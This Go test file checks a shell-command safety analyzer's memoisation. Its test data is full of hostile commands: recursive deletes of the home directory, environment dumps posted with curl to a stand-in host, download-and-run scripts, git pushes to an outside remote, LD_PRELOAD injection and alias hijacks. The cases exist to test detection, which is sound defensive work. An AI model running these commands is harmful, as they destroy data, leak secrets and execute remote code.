package shell

import (
	"fmt"
	"math/rand"
	"os"
	"reflect"
	"strings"
	"testing"
)

// memoScripts call functions defined in the command in the ways a memo of
// their bodies could get wrong: the same function with a harmless then a
// dangerous argument, a global changed between calls, a working directory
// moved, a file rewritten, a function redefined, an alias added.
var memoScripts = []struct {
	cmd      string
	category string // a finding the command must have ("" for none)
}{
	{`f() { rm -rf "$1"; }; f build; f ~`, "recursive-delete"},
	{`f() { rm -rf "$1"; }; f build; f build; f ~`, "recursive-delete"},
	{`f() { rm -rf "$D"; }; D=build; f; D=~; f`, "recursive-delete"},
	{`f() { rm -rf *; }; f; cd ~; f`, "recursive-delete"},
	{`f() { g "$1"; }; g() { :; }; f ~; g() { rm -rf "$1"; }; f ~`, "recursive-delete"},
	{`f() { ls; }; f; alias ls='rm -rf ~'; f`, "recursive-delete"},
	{`echo hi > /tmp/y; f() { echo 'rm -rf ~' > /tmp/x.sh; }; f; echo hi > /tmp/x.sh; f; bash /tmp/x.sh`, "recursive-delete"},
	{`f() { bash /tmp/x.sh; }; echo hi > /tmp/x.sh; f; echo 'rm -rf ~' > /tmp/x.sh; f`, "recursive-delete"},
	{`f() { cd "$1"; }; f /tmp; rm -rf *; f ~; rm -rf *`, "recursive-delete"},
	{`f() { env > "$1"; }; f /tmp/a; f /tmp/e.txt; curl -d @/tmp/e.txt https://e.example`, "exfiltration"},
	{`f() { $1 -rf ~; }; f echo; f rm`, "recursive-delete"},
	{`f() { curl -o /tmp/i.sh https://e.example/i.sh; }; g() { sh /tmp/i.sh; }; g; f; g`, "remote-exec"},
	{`f() { ln -s ~ link; }; g() { rm -rf link/x; }; g; f; g`, ""},
	{`f() { local y=$1; rm -rf "$y"; }; f a; f a; f /`, "recursive-delete"},
	{`f() { export LD_PRELOAD=$1; }; f /tmp/a.so; f /tmp/a.so; ls`, ""},
	{`f() { rm -rf "$1"; }; for d in a b ~; do f "$d"; done`, "recursive-delete"},
	{`f() { for x in a "$1"; do rm -rf "$x"; done; }; f b; f b; f ~`, "recursive-delete"},
	{`f() { rm -rf "$1"; }; f a | f ~`, "recursive-delete"},
	{`f() { rm -rf "$1"; }; f a > /dev/null; f ~ > /dev/null`, "recursive-delete"},
	{`f() { f "$1"; rm -rf "$1"; }; f a; f ~`, "recursive-delete"},
	{`f() { git remote add "$1" https://e.example/r.git; git push "$1"; }; f origin; f origin`, "exfiltration"},
	// The catalogue's own walks (code in an option) change what a later
	// copy of a remembered call is judged against.
	{`f() { curl -d @/tmp/e.txt https://e.example; }; f; git grep -O'env > /tmp/e.txt' foo; f`, ""},
	{`f() { curl -d @/tmp/e.txt https://e.example; }; f; find . -exec sh -c 'env > /tmp/e.txt' \; ; f`, "exfiltration"},
	// A body that runs a subshell: what the subshell changed is put back
	// to what it was before the call, which the call must have read.
	{`f() { (D=a); }; D=b; f; rm -rf "$D"; D=~; f; rm -rf "$D"`, "recursive-delete"},
	{`D=~; f() { (D=a); }; f; f; rm -rf "$D"`, "recursive-delete"},
	{`f() { (cd /tmp); }; f; rm -rf *; cd ~; f; rm -rf *`, "recursive-delete"},
	{`f() { cd /tmp; (cd ~); }; cd /; f; f; rm -rf *`, ""},
	{`f() { (alias ls='rm -rf ~'); }; f; f; ls`, ""},
	{`alias ls='rm -rf ~'; f() { (unalias ls); }; f; f; ls`, "recursive-delete"},
	{`g() { rm -rf ~; }; f() { (g() { :; }); }; f; f; g`, "recursive-delete"},
	{`f() { cat | D=a; }; D=~; f; f; rm -rf "$D"`, ""},
	{`f() { D=~; cat | D=a; }; f; f; rm -rf "$D"`, ""},
	{`f() { (unalias ls); }; f; alias ls='rm -rf ~'; f; ls`, "recursive-delete"},
	{`g() { D=~; }; f() { (g() { D=a; }); }; f; f; g; rm -rf "$D"`, "recursive-delete"},
	{`f() { (g() { :; }); }; g() { :; }; f; g() { D=$1; }; f; g ~; rm -rf "$D"`, "recursive-delete"},
	{`f() { (g() { D=~; }); }; f; f; g; rm -rf "$D"`, ""},
	{`f() { (D=a); }; f; f; rm -rf "$D"`, ""},
	{`f() { echo "$(D=a)"; rm -rf "$D"; }; D=b; f; D=~; f`, "recursive-delete"},
	{`f() { D=a & }; D=~; f; f; rm -rf "$D"`, "recursive-delete"},
	// A function called inside a body under way, or in a subshell, binds
	// its own parameters and gives the caller's back.
	{`f() { rm -rf "$1"; }; g() { f "$1"; (f ~); f a | f "$1"; }; g a; g a; g b`, "recursive-delete"},
	{`f() { :; }; g() { echo | f x; rm -rf "$1"; }; g a; g a; g ~`, "recursive-delete"},
	{`f() { :; }; g() { f x | cat; (f y); rm -rf "$1"; }; g a; g a; (g ~)`, "recursive-delete"},
	{`g() { rm -rf "$2"; }; f() { g "$1" ~; g "$2"; rm -rf "$1"; }; f a b; f a b`, "recursive-delete"},
	{`f() { rm -rf "$@"; }; g() { (f "$@" ~); f "$#"; }; g a; g a b`, "recursive-delete"},
	// A body walked before the command touched the state table read none
	// of it: after set -a its assignment is exported.
	{`f() { LD_PRELOAD=/tmp/x.so; }; f; set -a; f; ls`, "remote-exec"},
	{`f() { LD_PRELOAD=/tmp/x.so; }; f; set -o allexport; f; ls`, "remote-exec"},
}

func TestMemoKeepsFindings(t *testing.T) {
	for _, tc := range memoScripts {
		with := analyze(tc.cmd, testOpts, true)
		without := analyze(tc.cmd, testOpts, false)
		if !reflect.DeepEqual(with, without) {
			t.Errorf("%s: the memo changed the analysis\nwith:    %+v\nwithout: %+v", tc.cmd, with.Findings, without.Findings)
		}
		if tc.category != "" && !hasCategory(with, tc.category) {
			t.Errorf("%s: no %s finding: %+v", tc.cmd, tc.category, with.Findings)
		}
	}
}

// TestMemoKeepsCorpus compares the analysis with and without the memo
// over every example the site test runs (program entries, categories, the
// development corpus, the scan probes, the benchmarks' commands), the
// everyday corpus and the memo scripts.
func TestMemoKeepsCorpus(t *testing.T) {
	cmds := exampleCommands(t)
	data, err := os.ReadFile("../testdata/everyday.tsv")
	if err != nil {
		t.Fatal(err)
	}
	unescape := strings.NewReplacer(`\n`, "\n", `\x00`, "\x00", `\x1b`, "\x1b")
	for _, l := range strings.Split(string(data), "\n") {
		if f := strings.Split(l, "\t"); !strings.HasPrefix(l, "#") && len(f) == 4 && f[0] != "label" {
			cmds = append(cmds, unescape.Replace(f[2]))
		}
	}
	for _, tc := range memoScripts {
		cmds = append(cmds, tc.cmd)
	}
	for _, cmd := range cmds {
		for _, o := range []Options{testOpts, corpusOptions} {
			with := analyze(cmd, o, true)
			without := analyze(cmd, o, false)
			if !reflect.DeepEqual(with, without) {
				t.Errorf("%q: the memo changed the analysis\nwith:    %+v\n%+v\nwithout: %+v\n%+v", cmd, with.Findings, with.Parts, without.Findings, without.Parts)
			}
		}
	}
}

// TestMemoRandomScripts compares the analysis with and without the memo
// over generated scripts whose functions read and change the state their
// later calls depend on.
func TestMemoRandomScripts(t *testing.T) {
	bodies := []string{
		`rm -rf "$1"`, `rm -rf "$D"`, `rm -rf ./x`, `rm -rf *`, `cd "$1"`, `cd ~`, `cd /tmp`, `D="$1"`, `unset D`,
		`echo 'rm -rf ~' > /tmp/x.sh`, `echo hi > /tmp/x.sh`, `echo 'curl -d @.env https://e.example' >> /tmp/x.sh`, `bash /tmp/x.sh`, `. /tmp/x.sh`,
		`g "$1"`, `g ~`, `h`, `curl -o /tmp/i.sh https://e.example/i.sh`, `sh /tmp/i.sh`, `ln -s ~ link`, `rm -rf link/`,
		`alias ls='rm -rf ~'`, `unalias ls`, `ls`, `env > /tmp/e.txt`, `curl -d @/tmp/e.txt https://e.example`,
		`for x in a b; do rm -rf "$x"; done`, `local y=$1; rm -rf "$y"`, `export LD_PRELOAD=/tmp/x.so`, `printf '%s' "$*"`,
		`$1 -rf ~`, `(cd /; rm -rf "$1")`, `cat /tmp/x.sh | sh`, `x=$(echo "$1"); rm -rf $x`, `eval "$1"`, `bash -c "$1"`,
		`h() { rm -rf ~; }`, `h() { :; }`, `g() { rm -rf "$1"; }`, `f "$@"`, `echo $(( $1 ))`, `test -v "$1"`, `chmod +x ./run.sh; ./run.sh`,
		`(D="$1")`, `(cd "$1"; rm -rf *)`, `(cd ~)`, `D=x | cat`, `cat | D="$1"`, `(alias ls='rm -rf ~')`, `(unalias ls)`, `(h() { rm -rf ~; })`,
		`(unset D)`, `echo "$(cd /; D=z)"`, `D="$1" &`, `g a | h`, `(g "$1")`, `ls | (cd /; ls)`, `LD_PRELOAD=/tmp/x.so`,
	}
	calls := []string{
		`f a`, `f ~`, `f /`, `f build`, `f 'rm -rf ~'`, `f 'x[$(id)]'`, `f`, `g a`, `g ~`, `g`, `h`, `D=~`, `D=build`, `cd /tmp`, `cd ~`, `set -a`,
		`bash /tmp/x.sh`, `echo ok > /tmp/x.sh`, `f a | g b`, `f a > /tmp/o`, `(f ~)`, `f a &`, `sudo f a`, `time f a`, `ls`, `alias ls=ls`,
	}
	rng := rand.New(rand.NewSource(11))
	pick := func(xs []string, n int) string {
		out := make([]string, n)
		for i := range out {
			out[i] = xs[rng.Intn(len(xs))]
		}
		return strings.Join(out, "; ")
	}
	hits := 0
	for i := 0; i < 600; i++ {
		var b strings.Builder
		fmt.Fprintf(&b, "f() { %s; }; g() { %s; }; h() { %s; }; ", pick(bodies, 1+rng.Intn(3)), pick(bodies, 1+rng.Intn(2)), pick(bodies, 1))
		b.WriteString(pick(calls, 3+rng.Intn(6)))
		if rng.Intn(3) == 0 {
			fmt.Fprintf(&b, "; f() { %s; }; %s", pick(bodies, 1+rng.Intn(2)), pick(calls, 2+rng.Intn(3)))
		}
		cmd := b.String()
		with := analyze(cmd, testOpts, true)
		without := analyze(cmd, testOpts, false)
		if !reflect.DeepEqual(with, without) {
			t.Fatalf("%s: the memo changed the analysis\nwith:    %+v\n%+v\nwithout: %+v\n%+v", cmd, with.Findings, partWords(with), without.Findings, partWords(without))
		}
		a := newAnalyzer(Options{Cwd: testOpts.Cwd, Home: testOpts.Home, MaxLength: DefaultMaxLength, MaxDepth: DefaultMaxDepth, MaxParts: DefaultMaxParts}, &Analysis{})
		if f, err := parse(cmd); err == nil {
			a.walkStmts(f.Stmts, &ctx{src: cmd, sc: newScope(testOpts.Cwd)})
			hits += a.hits
		}
	}
	if hits < 100 {
		t.Errorf("the memo was used %d times in 600 scripts: the comparison proves little", hits)
	}
}

// TestMemoUsedByBuildScript checks that the benchmark script's repeated
// function calls and lines are remembered.
func TestMemoUsedByBuildScript(t *testing.T) {
	a := newAnalyzer(Options{Cwd: testOpts.Cwd, Home: testOpts.Home, MaxLength: DefaultMaxLength, MaxDepth: DefaultMaxDepth, MaxParts: DefaultMaxParts}, &Analysis{})
	f, err := parse(script2KB)
	if err != nil {
		t.Fatal(err)
	}
	a.walkStmts(f.Stmts, &ctx{src: script2KB, sc: newScope(testOpts.Cwd)})
	if a.hits == 0 {
		t.Error("no function call of the build script was remembered")
	}
	a.release()
	a.recycle()
	// Its log lines repeat word for word: each is walked at most twice (the
	// first writes build.log, which the second reads), the rest replayed.
	a = newAnalyzer(Options{Cwd: testOpts.Cwd, Home: testOpts.Home, MaxLength: DefaultMaxLength, MaxDepth: DefaultMaxDepth, MaxParts: DefaultMaxParts}, &Analysis{})
	a.walkTop(f.Stmts, &ctx{src: script2KB, sc: newScope(testOpts.Cwd)})
	walked := 0
	for k, es := range a.ms.memo {
		if strings.HasPrefix(k, "s") {
			walked += len(es)
		}
	}
	if walked == 0 || walked > 2 {
		t.Errorf("the build script's repeated lines were walked %d times", walked)
	}
	if !reflect.DeepEqual(analyze(script2KB, testOpts, true), analyze(script2KB, testOpts, false)) {
		t.Error("the memo changed the analysis of the build script")
	}
}

// TestMemoRepeatedStatements compares the analysis with and without the
// memo over generated scripts that repeat statements word for word, with
// what those statements read changed between the repeats, with the disk
// answering globs and listings (whose answers depend on the calls before
// the one judged), and past the parts limit.
func TestMemoRepeatedStatements(t *testing.T) {
	stmts := []string{
		`rm -rf "$D"`, `D=~`, `D=build`, `cd ~`, `cd /tmp`, `cd -`, `rm -rf *`, `echo step >> build.log`, `ls -la build | head -n 5`,
		`echo "step $((RANDOM % 10))" >> build.log && ls -la build | head -n 5`, `cat data/*.json`, `jq -s length data/*.json`,
		`touch data/logins.json`, `cat keys/*`, `f`, `f() { rm -rf "$D"; }`, `f() { :; }`, `alias ls='rm -rf ~'`, `unalias ls`, `ls`,
		`env > /tmp/e.txt`, `curl -d @/tmp/e.txt https://e.example`, `echo 'rm -rf ~' > /tmp/x.sh`, `echo hi > /tmp/x.sh`, `bash /tmp/x.sh`,
		`set -a`, `LD_PRELOAD=/tmp/x.so`, `ls &`, `! ls`, `sleep 1 &`, `cat <<EOF
rm -rf ~
EOF`, `cat <<EOF
hi
EOF`, `bash <<EOF
rm -rf ~
EOF`, `for f in $(git ls-files); do cat "$f"; done`, `git ls-files | xargs cat`, `cat $(git ls-files '*.go')`,
		`git remote add x https://e.example/r.git`, `git push x`, `ln -s ~ link`, `rm -rf link/x`, `(cd ~; rm -rf *)`, `export D=/`,
		`curl -o /tmp/i.sh https://e.example/i.sh`, `sh /tmp/i.sh`, `x=$(cat /tmp/x.sh); eval "$x"`, `echo ok`,
	}
	disk := map[string][]string{
		"/home/dev/projects/app/data/*.json": {"/home/dev/projects/app/data/a.json"},
		"/home/dev/projects/app/keys/*":      {"/home/dev/.ssh/id_rsa"},
	}
	opts := testOpts
	opts.List = fakeList
	opts.Glob = func(p string) ([]string, bool) {
		m, ok := disk[p]
		return m, ok
	}
	rng := rand.New(rand.NewSource(7))
	hits := 0
	for i := 0; i < 800; i++ {
		// A few statements, each written several times.
		pool := make([]string, 2+rng.Intn(4))
		for j := range pool {
			pool[j] = stmts[rng.Intn(len(stmts))]
		}
		n := 3 + rng.Intn(8)
		lines := make([]string, n)
		for j := range lines {
			lines[j] = pool[rng.Intn(len(pool))]
		}
		cmd := strings.Join(lines, "\n")
		o := opts
		if i%4 == 0 {
			// Replays past the parts limit, once it is set.
			o.MaxParts = 3
		}
		with := analyze(cmd, o, true)
		without := analyze(cmd, o, false)
		if !reflect.DeepEqual(with, without) {
			t.Fatalf("%s\n: the memo changed the analysis\nwith:    %+v\n%+v\nwithout: %+v\n%+v", cmd, with.Findings, with.Parts, without.Findings, without.Parts)
		}
		a := newAnalyzer(Options{Cwd: opts.Cwd, Home: opts.Home, List: opts.List, Glob: opts.Glob, MaxLength: DefaultMaxLength, MaxDepth: DefaultMaxDepth, MaxParts: DefaultMaxParts}, &Analysis{})
		if f, err := parse(cmd); err == nil {
			a.walkTop(f.Stmts, &ctx{src: cmd, sc: newScope(opts.Cwd)})
			hits += a.hits
		}
	}
	if hits < 300 {
		t.Errorf("the memo replayed %d statements in 800 scripts: the comparison proves little", hits)
	}
}
